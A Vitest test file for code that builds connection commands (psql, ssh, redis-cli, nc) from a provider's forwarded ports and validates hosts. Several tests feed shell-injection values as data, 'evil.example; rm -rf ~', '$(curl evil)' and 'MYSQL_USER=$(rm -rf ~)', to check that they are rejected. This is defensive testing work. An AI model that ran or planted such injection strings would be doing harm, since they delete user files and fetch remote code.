import { describe, expect, it } from "vitest";
import type { LeaseStatus } from "@/lib/provider-proxy";
import { connectionCommand, hostPort, isSafeHost, serviceHints, tcpEndpoints } from "./endpoints";

const status = (forwarded: NonNullable<LeaseStatus["forwarded_ports"]>, ips: LeaseStatus["ips"] = null): LeaseStatus => ({ services: {}, forwarded_ports: forwarded, ips });

describe("tcpEndpoints", () => {
  it("gives host:port and a ready command for each forwarded port", () => {
    const endpoints = tcpEndpoints(
      status({
        postgres: [{ host: "provider-1.example.com", port: 5432, externalPort: 31432, proto: "TCP", name: "postgres" }],
        game: [{ host: "10.0.0.7", port: 7777, externalPort: 30777, proto: "UDP", name: "game" }],
      }),
    );
    expect(endpoints).toEqual([
      { service: "postgres", host: "provider-1.example.com", port: 31432, containerPort: 5432, proto: "TCP", command: "psql -h provider-1.example.com -p 31432 -U postgres", client: "PostgreSQL client" },
      { service: "game", host: "10.0.0.7", port: 30777, containerPort: 7777, proto: "UDP", command: "nc -u 10.0.0.7 30777", client: "netcat (UDP)" },
    ]);
  });

  it("includes leased IPs", () => {
    const [ssh] = tcpEndpoints(status({}, { box: [{ IP: "203.0.113.9", Port: 22, ExternalPort: 22, Protocol: "TCP" }] }));
    expect(ssh?.command).toBe("ssh -p 22 root@203.0.113.9");
  });

  it("drops what a hostile provider could turn into a shell command", () => {
    const endpoints = tcpEndpoints(
      status({
        a: [{ host: "evil.example; rm -rf ~", port: 5432, externalPort: 31000, proto: "TCP", name: "a" }],
        b: [{ host: "$(curl evil)", port: 6379, externalPort: 31001, proto: "TCP", name: "b" }],
        c: [{ host: "ok.example", port: 6379, externalPort: 70000, proto: "TCP", name: "c" }],
        d: [{ host: "ok.example", port: 1.5, externalPort: 31002, proto: "TCP", name: "d" }],
      }),
    );
    expect(endpoints).toEqual([]);
  });

  it("is empty without forwarded ports", () => {
    expect(tcpEndpoints(null)).toEqual([]);
    expect(tcpEndpoints({ services: {} })).toEqual([]);
  });
});

it("knows common servers by their container port, and falls back to netcat", () => {
  expect(connectionCommand("h", 1, 6379).command).toBe("redis-cli -h h -p 1");
  expect(connectionCommand("h", 1, 3306).command).toBe("mysql -h h -P 1 -u root -p");
  expect(connectionCommand("h", 1, 9000).command).toBe("nc h 1");
});

it("validates hosts and brackets IPv6", () => {
  expect(isSafeHost("ingress.provider-1.localhost")).toBe(true);
  expect(isSafeHost("2001:db8::1")).toBe(true);
  expect(isSafeHost("a b")).toBe(false);
  expect(isSafeHost("-x.example")).toBe(false);
  expect(hostPort("2001:db8::1", 80)).toBe("[2001:db8::1]:80");
});

it("uses the SDL's image and database user when the deployment's SDL is known", () => {
  const hints = serviceHints('services:\n  db:\n    image: postgres:17-alpine\n    env:\n      - POSTGRES_USER=app\n      - POSTGRES_PASSWORD=x\n  odd:\n    image: mariadb:11\n    env:\n      - "MYSQL_USER=$(rm -rf ~)"\n');
  expect(hints.db).toEqual({ image: "postgres:17-alpine", env: { POSTGRES_USER: "app", POSTGRES_PASSWORD: "x" } });
  const status = { services: {}, forwarded_ports: { db: [{ host: "h.example", port: 15432, externalPort: 31000, proto: "TCP", name: "db" }], odd: [{ host: "h.example", port: 3307, externalPort: 31001, proto: "TCP", name: "odd" }] } };
  const [db, odd] = tcpEndpoints(status, hints);
  expect(db?.command).toBe("psql -h h.example -p 31000 -U app");
  // A user name that is not plainly one never reaches the command.
  expect(odd?.command).toBe("mysql -h h.example -P 31001 -u root -p");
  expect(serviceHints("{not yaml")).toEqual({});
  expect(serviceHints(undefined)).toEqual({});
});
